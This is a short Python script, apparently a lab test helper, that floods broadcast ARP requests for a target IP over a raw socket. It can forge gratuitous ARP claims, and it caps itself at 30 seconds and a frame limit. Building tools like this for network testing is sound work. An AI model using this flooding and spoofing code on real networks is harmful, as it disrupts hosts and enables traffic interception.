#!/usr/bin/env python3
"""Floods ARP requests for one IP out of one interface, for a bounded time (lab only).

    arp-flood.py <interface> <target-ip> <seconds> [source-mac] [sender-ip] [max-frames]

Sender IP = target IP makes it a gratuitous ARP (someone claiming the IP). Prints frames sent. Runs inside a lab namespace; the frames never leave it.
"""
import socket
import struct
import sys
import time

iface, target, seconds = sys.argv[1], sys.argv[2], float(sys.argv[3])
src_mac = bytes.fromhex((sys.argv[4] if len(sys.argv) > 4 else "02:00:5e:00:00:99").replace(":", ""))
sender_ip = socket.inet_aton(sys.argv[5] if len(sys.argv) > 5 else "203.0.113.99")
max_frames = int(sys.argv[6]) if len(sys.argv) > 6 else 10**9
frame = (
    b"\xff" * 6 + src_mac + b"\x08\x06"  # Ethernet: broadcast, ARP
    + struct.pack("!HHBBH", 1, 0x0800, 6, 4, 1)  # Ethernet/IPv4, request
    + src_mac + sender_ip + b"\x00" * 6 + socket.inet_aton(target)
)
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind((iface, 0))
sent = 0
deadline = time.monotonic() + min(seconds, 30.0)
while time.monotonic() < deadline and sent < max_frames:
    for _ in range(min(1000, max_frames - sent)):
        try:
            s.send(frame)
            sent += 1
        except BlockingIOError:
            pass
print(sent)
